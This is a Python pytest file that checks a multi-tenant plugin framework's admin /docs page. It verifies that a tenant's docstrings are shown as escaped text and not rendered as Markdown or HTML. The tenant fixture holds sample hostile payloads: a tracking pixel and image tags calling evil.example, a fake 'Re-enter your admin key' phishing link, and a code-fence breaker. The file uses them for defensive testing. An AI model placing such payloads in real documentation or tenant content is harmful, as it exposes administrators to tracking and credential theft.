"""A tenant's docstrings are shown as text in the admin's ``/docs``: no remote image loads, no link, no HTML.

The attack: a tenant module whose docstrings carry a Markdown image (a tracking pixel on the admin's browser,
with the admin's IP and timing), raw HTML and a lookalike link; the admin opens ``/docs``. Swagger UI renders an
operation's ``description`` as Markdown, so the document is rendered here with a CommonMark renderer (HTML on, as
Swagger's is) and the HTML checked: the tenant's text is there, as text, and no element loads or links anything.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from dpmsf_core.tenancy.tokens import generate_key, mint

ADMIN = "00000000-0000-4000-8000-00000000000a"
MALLORY = "aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa"
ADMIN_KEY = generate_key()

TENANT_MODULE = '''
def lure():
    """Docs ![pixel](https://evil.example/pixel.png?who=admin)

    <img src="https://evil.example/img.png"> <a href="https://evil.example/login">Re-enter your admin key</a>
    [click](https://evil.example/phish) and ~~~~ a fence breaker
    ~~~~
    ![after the fence](https://evil.example/after.png)
    """
    return 1
'''

ADMIN_MODULE = '''
def documented():
    """Admin docs keep **Markdown**: [the guide](https://docs.example/guide)."""
    return 1
'''


@pytest.fixture
def spec(
    plugin_dir: Any, make_app: Callable[..., Any], serve: Callable[[Any], httpx.Client], tmp_path: Path
) -> dict[str, Any]:
    pytest.importorskip("wasmtime")
    plugin_dir.write("admin_docs.py", ADMIN_MODULE)
    app = make_app(
        plugin_dir.path,
        env={"ADMIN_ID": ADMIN, "DPMSF_ADMIN_KEY": ADMIN_KEY, "DPMSF_STORE": f"sqlite:///{tmp_path / 's.db'}"},
    )
    app.get_security().tenants.add(name="mallory", tenant_id=MALLORY)
    client = serve(app)
    key = app.get_security().tenants.get(MALLORY).key
    put = client.put(
        "/rest/admin/plugins/lure", content=TENANT_MODULE, headers={"authorization": f"Bearer {mint(MALLORY, key)}"}
    )
    assert put.status_code in (200, 201), put.text
    document = client.get("/openapi.json", headers={"authorization": f"Bearer {mint(ADMIN, ADMIN_KEY)}"})
    assert document.status_code == 200
    return document.json()


def _render(markdown: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return str(markdown_it.MarkdownIt("commonmark", {"html": True, "linkify": True}).render(markdown))


def _operation(spec: dict[str, Any], module: str) -> dict[str, Any]:
    (ops,) = [ops for ops in spec["paths"].values() if next(iter(ops.values()))["tags"] == [module]]
    return next(iter(ops.values()))


def test_a_tenant_docstring_renders_as_text(spec: dict[str, Any]) -> None:
    op = _operation(spec, "lure")
    html = _render(op["description"])
    tags = re.findall(r"<(/?\w+)([^>]*)>", html)  # the elements a browser would build: text is escaped
    assert {name.strip("/") for name, _ in tags} <= {"pre", "code", "p"}, tags
    assert not [attrs for _, attrs in tags if "src" in attrs or "href" in attrs]
    assert html.startswith("<pre><code") and html.count("</code></pre>") == 1  # one block of text, then our notes
    assert "pixel.png?who=admin" in html and "Re-enter your admin key" in html  # shown, not hidden
    assert "after.png" in html.split("</code></pre>")[0]  # the tenant's fence did not close ours
    assert "\n" not in op["summary"]  # plain text by the OpenAPI spec, and so Swagger UI shows it: one line


def test_the_admins_own_docstring_keeps_markdown(spec: dict[str, Any]) -> None:
    html = _render(_operation(spec, "admin_docs")["description"])
    assert "<strong>Markdown</strong>" in html and 'href="https://docs.example/guide"' in html
